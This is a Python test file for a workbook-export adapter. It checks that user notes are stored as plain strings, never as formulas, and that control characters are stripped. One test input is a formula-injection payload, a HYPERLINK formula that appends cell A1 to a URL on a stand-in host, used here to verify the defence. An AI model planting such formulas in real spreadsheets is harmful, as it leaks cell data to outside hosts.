"""The workbooks store text as text: a note that looks like a formula stays a string, and the
control characters an .xlsx cannot hold (pasted from a word processor) are left out, not a 500."""

from __future__ import annotations

import io

from openpyxl import load_workbook
from xuncha_reporting.adapters.workbooks import workbook


def test_text_is_never_a_formula_nor_a_character_xlsx_refuses() -> None:
    notes = ['=HYPERLINK("http://x/?"&A1,"点击")', "+1", "-整改", "@某人", "竖排\x0b制表", "正常"]
    content = workbook((("项目", "内容"), [("说明", n) for n in notes]), [])
    sheet = load_workbook(io.BytesIO(content))["汇总"]
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == [*notes[:4], "竖排制表", "正常"]
    assert {c.data_type for c in cells} == {"s"}
